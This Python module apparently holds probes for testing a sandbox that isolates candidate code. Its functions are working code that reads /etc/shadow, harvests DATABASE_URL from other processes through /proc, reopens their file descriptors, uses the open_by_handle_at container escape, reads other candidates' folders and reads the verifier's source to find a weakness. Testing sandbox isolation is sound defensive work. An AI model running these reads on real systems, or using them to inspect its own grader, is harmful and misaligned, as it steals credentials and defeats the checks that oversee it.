"""Attacks that read what is not theirs: accounts, homes, environments, sources, descriptors."""

from __future__ import annotations

from typing import Any


def read_shadow(world: Any) -> Any:
    """Read the password file."""
    return open("/etc/shadow").read(40)


def read_home(world: Any) -> Any:
    """Read a private file in the user's home folder."""
    return open(world["secret_file"]).read()


def read_home_by_root_link(world: Any) -> Any:
    """Reach the same file through /proc/self/root."""
    return open("/proc/self/root" + world["secret_file"]).read()


def read_home_by_dots(world: Any) -> Any:
    """Reach the same file through .. from a readable folder."""
    import numpy as np

    return open(np.__path__[0] + "/.." * 30 + world["secret_file"]).read()


def read_parent_environment(world: Any) -> Any:
    """Read the environment, with the database's URL, of another process through /proc."""
    text = open(f"/proc/{world['victim']}/environ").read()
    return [line for line in text.split("\0") if line.startswith("DATABASE_URL=")]


def read_every_environment(world: Any) -> Any:
    """Read the environment of every process that can be seen."""
    import os

    found = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            text = open(f"/proc/{name}/environ").read()
        except OSError:
            continue
        found += [line[:12] for line in text.split("\0") if line.startswith("DATABASE_URL=")]
    return found


def read_own_environment(world: Any) -> Any:
    """Find the database's URL in the environment that was inherited."""
    import os

    return os.environ["DATABASE_URL"]


def read_parent_files(world: Any) -> Any:
    """Reopen what another process holds open through /proc/PID/fd."""
    return open(f"/proc/{world['victim']}/fd/{world['victim_descriptor']}").read()


def read_parent_arguments(world: Any) -> Any:
    """Read another process's command line."""
    return open(f"/proc/{world['victim']}/cmdline").read()


def read_inherited_descriptors(world: Any) -> Any:
    """Read every descriptor that was left open across the start of the program."""
    import os
    import stat

    for number in range(3, 256):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                text = os.pread(number, 1000, 0).decode()
                if world["mark"] in text:
                    return text
        except OSError:
            continue
    raise PermissionError(13, "no descriptor holds it")


def read_other_candidate(world: Any) -> Any:
    """Read the folder in which another candidate works."""
    import os

    name = os.listdir(world["other_candidate"])[0]
    return open(f"{world['other_candidate']}/{name}").read()


def read_verifier(world: Any) -> Any:
    """Read the verifier's source to find its weak place."""
    return open(world["verifier"]).read(100)


def read_by_handle(world: Any) -> Any:
    """Open a file by its handle, past every path (the old container escape)."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(136)
    handle[:8] = (128).to_bytes(4, "little") + bytes(4)
    mount = ctypes.c_int()
    path = world["secret_file"].encode()
    if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    import os

    folder = os.open("/", os.O_RDONLY)
    opened = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
    if opened < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.read(opened, 100).decode()


def read_kernel_log(world: Any) -> Any:
    """Read the kernel's log."""
    import ctypes

    buffer = ctypes.create_string_buffer(1000)
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.klogctl(3, buffer, 999)
    if got < 0:
        raise OSError(ctypes.get_errno(), "klogctl")
    return got


def read_neighbours(world: Any) -> Any:
    """List the other processes of the machine."""
    import os

    return world["victim"] in map(int, filter(str.isdigit, os.listdir("/proc"))) or None
